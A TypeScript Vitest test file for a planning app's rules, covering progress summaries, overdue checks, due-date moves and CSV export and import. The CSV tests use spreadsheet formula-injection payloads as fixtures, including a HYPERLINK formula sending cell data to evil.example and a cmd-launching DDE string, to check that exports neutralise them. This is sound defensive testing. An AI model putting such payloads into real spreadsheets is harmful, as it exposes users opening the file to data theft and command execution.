import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  dueDateMoveOf,
  guardCell,
  isOverdue,
  itemsToCsv,
  parseItemsCsv,
  parseStatusFilter,
  summarizeProgress,
  unguardCell,
  type CsvItem,
} from '@/plans/rules';

describe('progress summary', () => {
  const items = [
    { status: 'done' as const, progress: 100, dueDate: '2015-06-30' },
    { status: 'in_progress' as const, progress: 60, dueDate: '2016-03-31' },
    { status: 'planned' as const, progress: 0, dueDate: '2016-12-31' },
    { status: 'delayed' as const, progress: 30, dueDate: '2015-12-31' },
    { status: 'dropped' as const, progress: 10, dueDate: '2015-01-31' },
  ];

  it('counts done share and average progress without the dropped items', () => {
    const summary = summarizeProgress(items, '2016-01-15');
    expect(summary.total).toBe(4);
    expect(summary.done).toBe(1);
    expect(summary.dropped).toBe(1);
    expect(summary.donePercent).toBe(25);
    expect(summary.averageProgress).toBe(Math.round((100 + 60 + 0 + 30) / 4));
    expect(summary.byStatus).toEqual({
      planned: 1,
      in_progress: 1,
      done: 1,
      delayed: 1,
      dropped: 1,
    });
  });

  it('marks overdue only past the due date and neither done nor dropped', () => {
    expect(summarizeProgress(items, '2016-01-15').overdue).toBe(1);
    expect(summarizeProgress(items, '2017-01-01').overdue).toBe(3);
    expect(isOverdue({ status: 'planned', progress: 0, dueDate: '2016-12-31' }, '2016-12-31')).toBe(
      false,
    );
    expect(isOverdue({ status: 'done', progress: 100, dueDate: '2015-06-30' }, '2020-01-01')).toBe(
      false,
    );
    expect(isOverdue({ status: 'planned', progress: 0, dueDate: null }, '2020-01-01')).toBe(false);
  });

  it('is zero for an empty plan', () => {
    expect(summarizeProgress([], '2020-01-01')).toMatchObject({
      total: 0,
      donePercent: 0,
      averageProgress: 0,
    });
  });

  it('reads status filters leniently', () => {
    expect(parseStatusFilter('done,delayed,nonsense')).toEqual(['done', 'delayed']);
    expect(parseStatusFilter(undefined)).toEqual([]);
  });
});

describe('items CSV', () => {
  const items: CsvItem[] = [
    {
      title: 'Volikogu istungite veebiülekanded',
      description: 'Rida üks\nrida kaks, "jutumärkidega"',
      responsible: 'Kantselei',
      dueDate: '2015-06-30',
      status: 'done',
      progress: 100,
      sourceOutcomeIds: [3, 7],
    },
    {
      title: 'Avaandmed',
      description: null,
      responsible: null,
      dueDate: null,
      status: 'planned',
      progress: 0,
      sourceOutcomeIds: [],
    },
    // What a spreadsheet would run as a formula, and text that merely looks like a guard.
    {
      title: '=HYPERLINK("https://evil.example/?"&A1,"Vaata")',
      description: '-2+3\n@SUM(A1:A9)',
      responsible: "+cmd|' /C calc'!A0",
      dueDate: null,
      status: 'in_progress',
      progress: 5,
      sourceOutcomeIds: [],
    },
    {
      title: "'=already quoted by hand",
      description: '\tindented',
      responsible: "'plain quote",
      dueDate: null,
      status: 'planned',
      progress: 0,
      sourceOutcomeIds: [],
    },
  ];

  it('writes UTF-8 with a BOM and the import columns, readable by a CSV parser', () => {
    const csv = itemsToCsv(items);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[1]).toEqual([
      'Volikogu istungite veebiülekanded',
      'Rida üks\nrida kaks, "jutumärkidega"',
      'Kantselei',
      '2015-06-30',
      'done',
      '100',
      '3 7',
    ]);
  });

  it('writes no cell a spreadsheet would run as a formula', () => {
    const rows = parse(itemsToCsv(items), { bom: true }) as string[][];
    expect(rows[3]?.slice(0, 3)).toEqual([
      '\'=HYPERLINK("https://evil.example/?"&A1,"Vaata")',
      "'-2+3\n@SUM(A1:A9)",
      "'+cmd|' /C calc'!A0",
    ]);
    expect(rows[4]?.slice(0, 3)).toEqual([
      "''=already quoted by hand",
      "'\tindented",
      "'plain quote",
    ]);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('guards and unguards as exact inverses', () => {
    for (const value of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=1", "''-1", "'x", 'x', '', "'"]) {
      expect(unguardCell(guardCell(value)), value).toBe(value);
    }
    expect(guardCell('Kantselei')).toBe('Kantselei');
    expect(unguardCell("'=1")).toBe('=1');
  });

  it('refuses an outcome id beyond int4, naming the line', () => {
    const result = parseItemsCsv(
      [
        CSV_COLUMNS.join(','),
        'Fine,,,,planned,0,1 2147483647',
        'Big,,,,planned,0,3 99999999999',
      ].join('\n'),
    );
    expect(result).toMatchObject({ ok: false, details: [{ path: 'line.3.source_outcome_ids' }] });
    if (!result.ok) expect(result.details).toHaveLength(1);
  });

  it('round-trips exactly', () => {
    const csv = itemsToCsv(items);
    const parsed = parseItemsCsv(csv);
    expect(parsed).toEqual({ ok: true, items });
    if (parsed.ok) expect(itemsToCsv(parsed.items)).toBe(csv);
  });

  it('refuses a wrong header', () => {
    const result = parseItemsCsv('title,state\nx,done\n');
    expect(result).toMatchObject({ ok: false, details: [{ path: 'line.1' }] });
  });

  it('names the line and field of every bad row and returns no items', () => {
    const csv = [
      CSV_COLUMNS.join(','),
      'Good,,,2015-01-01,done,100,',
      'Bad status,,,,finished,10,',
      'Bad progress,,,,planned,101,',
      ',,,2015-02-30,planned,0,x',
    ].join('\n');
    const result = parseItemsCsv(csv);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    const paths = result.details.map((detail) => detail.path);
    expect(paths).toEqual([
      'line.3.status',
      'line.4.progress',
      'line.5.title',
      'line.5.due_date',
      'line.5.source_outcome_ids',
    ]);
  });
});

describe('due-date moves', () => {
  it('says where a report moved the due date from and to', () => {
    const report = { dueDateMoved: true, dueDate: '2027-03-31', previousDueDate: '2026-12-31' };
    expect(dueDateMoveOf(report)).toEqual({ from: '2026-12-31', to: '2027-03-31' });
    expect(dueDateMoveOf({ ...report, previousDueDate: null })).toEqual({
      from: null,
      to: '2027-03-31',
    });
    expect(dueDateMoveOf({ ...report, dueDate: null })).toEqual({ from: '2026-12-31', to: null });
  });

  it('is null for a report that did not move it', () => {
    expect(dueDateMoveOf({ dueDateMoved: false, dueDate: null, previousDueDate: null })).toBeNull();
  });
});
